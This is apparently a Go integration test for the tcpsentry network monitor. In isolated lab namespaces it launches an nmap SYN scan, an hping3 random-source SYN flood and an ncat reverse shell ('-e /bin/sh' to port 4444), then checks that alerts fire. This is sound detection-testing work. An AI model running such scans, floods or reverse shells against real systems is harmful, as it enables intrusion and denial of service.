package main

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/tcpsentry/tcpsentry/internal/testenv"
)

// jsonlAlerts reads the alerts watch has written to its JSON lines sink.
func jsonlAlerts(t *testing.T, path string) []jsonAlert {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil && !os.IsNotExist(err) {
		t.Fatal(err)
	}
	var out []jsonAlert
	for _, line := range strings.Split(string(b), "\n") {
		var a jsonAlert
		if line == "" || json.Unmarshal([]byte(line), &a) != nil {
			continue // a line still being written
		}
		out = append(out, a)
	}
	return out
}

// waitAlert waits for an alert matching match in the JSON lines file and
// returns it with the wall time it was first seen there.
func waitAlert(t *testing.T, path string, d time.Duration, what string, match func(jsonAlert) bool) (jsonAlert, time.Time) {
	t.Helper()
	var found jsonAlert
	waitFor(t, d, what, func() bool {
		for _, a := range jsonlAlerts(t, path) {
			if match(a) {
				found = a
				return true
			}
		}
		return false
	})
	return found, time.Now()
}

// TestWatchLiveCapture runs watch with live capture on the victim's veth
// of a two-namespace lab: a real nmap SYN scan and a real hping3 flood
// from the attacker must each be alerted within 2 s of wall time from the
// start of the attack; then conntrack events in the victim's namespace
// show a shell session to port 4444 that opened and closed between two
// host snapshots.
func TestWatchLiveCapture(t *testing.T) {
	testenv.NeedRoot(t)
	for _, tool := range []string{"nmap", "hping3", "ncat", "nft"} {
		testenv.NeedTool(t, tool)
	}
	l := newLab(t)
	victimDev := strings.Fields(mustRun(t, "ip", "-n", l.victim, "-o", "link", "show", "type", "veth"))[1]
	victimDev = strings.TrimSuffix(strings.SplitN(victimDev, "@", 2)[0], ":")
	// conntrack tracks the victim's connections once a ct rule exists.
	for _, rule := range [][]string{
		{"add", "table", "inet", "t"},
		{"add chain inet t in { type filter hook input priority 0; policy accept; }"},
		{"add", "rule", "inet", "t", "in", "ct", "state", "new,established", "counter", "accept"},
	} {
		mustRun(t, "ip", append([]string{"netns", "exec", l.victim, "nft"}, rule...)...)
	}
	startBackground(t, "ip", "netns", "exec", l.victim, "ncat", "-l", "-k", l.victimIP, "22", "-c", "printf 'SSH-2.0-OpenSSH_9.2\\r\\n'")
	// The attacker's handler: sends one command to the shell that calls
	// it, and hangs up.
	startBackground(t, "ip", "netns", "exec", l.attacker, "ncat", "-l", "-k", l.attackerIP, "4444", "-c", "echo id; sleep 0.3")
	waitFor(t, 10*time.Second, "the listeners", func() bool { return listening(l.victim, 22) && listening(l.attacker, 4444) })

	dir := t.TempDir()
	jsonl := filepath.Join(dir, "alerts.jsonl")
	cfg := filepath.Join(dir, "watch.yaml")
	os.WriteFile(cfg, []byte(fmt.Sprintf(`sinks:
  min_severity: medium
  stdout: {enabled: false}
  jsonl: {enabled: true, path: %q}
watch:
  interval: 1h
  metrics_listen: ""
  store: %q
`, jsonl, filepath.Join(dir, "store.db"))), 0o600)
	// Capture leaves port 4444 to conntrack, so the shell below can only be
	// seen through conntrack's events.
	d := startWatch(t, "--config", cfg, "--capture", victimDev, "--filter", "not port 4444", "--netns", l.victim, "--conntrack")
	waitFor(t, 20*time.Second, "live capture and conntrack to start", func() bool {
		s := d.stderr.String()
		return strings.Contains(s, "live capture started") && strings.Contains(s, "conntrack events started")
	})

	inAttacker := func(ctx context.Context, name string, args ...string) *exec.Cmd {
		return exec.CommandContext(ctx, "ip", append([]string{"netns", "exec", l.attacker, name}, args...)...)
	}
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()

	start := time.Now()
	if out, err := inAttacker(ctx, "nmap", "-sS", "-n", "-Pn", "-T4", "-p1-200", l.victimIP).CombinedOutput(); err != nil {
		t.Fatalf("nmap: %v\n%s", err, out)
	}
	scan, at := waitAlert(t, jsonl, 15*time.Second, "the scan alert", func(a jsonAlert) bool {
		return a.Detector == "scan" && a.Src == l.attackerIP && a.Evidence["probe"] == "syn"
	})
	t.Logf("scan alert %v after nmap started: %s", at.Sub(start), scan.Title)
	if at.Sub(start) > 2*time.Second {
		t.Errorf("scan alerted %v after the scan began, want within 2 s", at.Sub(start))
	}

	start = time.Now()
	flood := inAttacker(ctx, "hping3", "-S", "--rand-source", "-p", "80", "-c", "3000", "-i", "u300", l.victimIP)
	flood.Stdout, flood.Stderr = nil, nil
	if err := flood.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { _ = flood.Process.Kill(); _ = flood.Wait() }()
	fl, at := waitAlert(t, jsonl, 15*time.Second, "the flood alert", func(a jsonAlert) bool {
		return a.Detector == "flood" && a.Dst == l.victimIP
	})
	t.Logf("flood alert %v after hping3 started: %s", at.Sub(start), fl.Title)
	if at.Sub(start) > 2*time.Second {
		t.Errorf("flood alerted %v after it began, want within 2 s", at.Sub(start))
	}
	if fl.DstPort == nil || *fl.DstPort != 80 {
		t.Errorf("flood alert names port %v, want 80", fl.DstPort)
	}

	// A reverse shell from the victim to the attacker's 4444 that is over
	// long before the next snapshot (an hour away): only conntrack's
	// destroy event can show it.
	shCtx, shCancel := context.WithTimeout(ctx, 10*time.Second)
	defer shCancel()
	sh := exec.CommandContext(shCtx, "ip", "netns", "exec", l.victim, "ncat", l.attackerIP, "4444", "-e", "/bin/sh")
	if out, err := sh.CombinedOutput(); err != nil {
		t.Fatalf("reverse shell: %v %s", err, out)
	}
	sp, _ := waitAlert(t, jsonl, 15*time.Second, "the suspicious-port alert from conntrack", func(a jsonAlert) bool {
		return a.Detector == "suspicious-port" && a.DstPort != nil && *a.DstPort == 4444 && a.Src == l.victimIP
	})
	t.Logf("short-lived session seen: %s", sp.Title)
	if !strings.Contains(d.stderr.String(), "conntrack events started") {
		t.Error("conntrack did not start")
	}
}
